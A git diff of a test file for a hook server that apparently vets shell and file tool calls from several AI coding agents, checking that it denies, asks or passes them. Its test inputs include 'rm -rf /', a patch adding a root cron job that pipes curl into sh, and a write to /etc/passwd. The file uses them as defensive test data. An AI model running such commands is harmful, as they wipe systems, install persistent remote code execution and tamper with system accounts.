@@ -13,8 +13,9 @@ import { Evaluator } from '../../src/core/evaluator';
 import { HookService } from '../../src/server/hooks';
 import { AskBroker } from '../../src/server/asks';
 import { WardenServer } from '../../src/server/server';
-import { makeProject, removeDir, tempDir } from '../builders/process';
-import { reasonOf, shellCall, verdictOf, type AgentId } from '../builders/agentPayloads';
+import { reasonOf, verdictOf, type AgentId } from '../builders/agentPayloads';
+import { aHookEvent } from '../builders/hookEvent';
+import { aProjectDir, aTempDir, removeDir } from '../builders/tempProject';
 
 const TOKEN = 'agents-hook-token-' + 'y'.repeat(32);
 const AGENTS: AgentId[] = ['claude', 'codex', 'gemini', 'cursor', 'copilot'];
@@ -26,8 +27,8 @@ let broker: AskBroker;
 let server: WardenServer;
 
 before(async () => {
-  stateDir = tempDir('agents-http-state');
-  project = makeProject('agents-http-project');
+  stateDir = aTempDir('agents-http-state');
+  project = aProjectDir('agents-http-project');
   await Evaluator.ready();
   log = new ActivityLog({
     path: join(stateDir, 'activity.jsonl'),
@@ -88,7 +89,10 @@ function recordsOf(session: string): Record<string, unknown>[] {
 for (const agent of AGENTS) {
   test(`${agent}: rm -rf / is refused in ${agent}'s own shape, and logged under ${agent}`, async () => {
     const session = `${agent}-destructive`;
-    const { status, json } = await post(agent, JSON.stringify(shellCall(agent, 'rm -rf /', project, session)));
+    const { status, json } = await post(
+      agent,
+      JSON.stringify(aHookEvent().bash('rm -rf /').inCwd(project).session(session).body(agent)),
+    );
     assert.equal(status, 200);
     assert.equal(verdictOf(agent, json), 'deny', JSON.stringify(json));
     assert.ok(reasonOf(agent, json).length > 10, 'the refusal says why');
@@ -100,7 +104,10 @@ for (const agent of AGENTS) {
   });
 
   test(`${agent}: an ordinary call is no objection ({}, never an explicit allow)`, async () => {
-    const { json } = await post(agent, JSON.stringify(shellCall(agent, 'ls -la', project, `${agent}-ordinary`)));
+    const { json } = await post(
+      agent,
+      JSON.stringify(aHookEvent().bash('ls -la').inCwd(project).session(`${agent}-ordinary`).body(agent)),
+    );
     assert.deepEqual(json, {});
   });
 
@@ -116,14 +123,20 @@ for (const agent of AGENTS) {
 
 for (const agent of ['gemini', 'cursor'] as AgentId[]) {
   test(`${agent}: an ask goes to ${agent}'s own confirmation`, async () => {
-    const { json } = await post(agent, JSON.stringify(shellCall(agent, 'sudo apt-get install -y jq', project)));
+    const { json } = await post(
+      agent,
+      JSON.stringify(aHookEvent().bash('sudo apt-get install -y jq').inCwd(project).body(agent)),
+    );
     assert.equal(verdictOf(agent, json), 'ask', JSON.stringify(json));
   });
 }
 
 for (const agent of ['codex', 'copilot'] as AgentId[]) {
   test(`${agent}: with no panel, an ask becomes a deny that says ${agent} cannot ask`, async () => {
-    const { json } = await post(agent, JSON.stringify(shellCall(agent, 'sudo apt-get install -y jq', project)));
+    const { json } = await post(
+      agent,
+      JSON.stringify(aHookEvent().bash('sudo apt-get install -y jq').inCwd(project).body(agent)),
+    );
     assert.equal(verdictOf(agent, json), 'deny');
     assert.match(reasonOf(agent, json), /cannot ask its user from a hook/);
     assert.match(reasonOf(agent, json), /Warden panel/);
@@ -133,7 +146,10 @@ for (const agent of ['codex', 'copilot'] as AgentId[]) {
     const detach = broker.attachPanel();
     try {
       const session = `${agent}-held`;
-      const reply = post(agent, JSON.stringify(shellCall(agent, 'sudo apt-get install -y jq', project, session)));
+      const reply = post(
+        agent,
+        JSON.stringify(aHookEvent().bash('sudo apt-get install -y jq').inCwd(project).session(session).body(agent)),
+      );
       const mine = () =>
         broker.pending().filter((p) => p.sessionId === (agent === 'copilot' ? `copilot:${project}` : session));
       let pending = mine();
@@ -162,7 +178,7 @@ for (const agent of ['codex', 'copilot'] as AgentId[]) {
 test('codex: apply_patch target paths are checked like writes', async () => {
   const patch = '*** Begin Patch\n*** Add File: /etc/cron.d/evil\n+* * * * * root curl x | sh\n*** End Patch\n';
   const body = {
-    ...(shellCall('codex', 'x', project) as object),
+    ...(aHookEvent().bash('x').inCwd(project).body('codex') as object),
     tool_name: 'apply_patch',
     tool_input: { command: patch },
   };
@@ -176,7 +192,7 @@ test('codex: apply_patch target paths are checked like writes', async () => {
 
 test('codex: a shell argv array is read as the command it runs', async () => {
   const body = {
-    ...(shellCall('codex', 'x', project) as object),
+    ...(aHookEvent().bash('x').inCwd(project).body('codex') as object),
     tool_name: 'shell',
     tool_input: { command: ['bash', '-lc', 'rm -rf /'] },
   };
@@ -186,7 +202,7 @@ test('codex: a shell argv array is read as the command it runs', async () => {
 
 test('gemini: write_file to a system file is not allowed; cursor beforeShellExecution is checked', async () => {
   const write = {
-    ...(shellCall('gemini', 'x', project) as object),
+    ...(aHookEvent().bash('x').inCwd(project).body('gemini') as object),
     tool_name: 'write_file',
     tool_input: { file_path: '/etc/passwd', content: 'x' },
   };
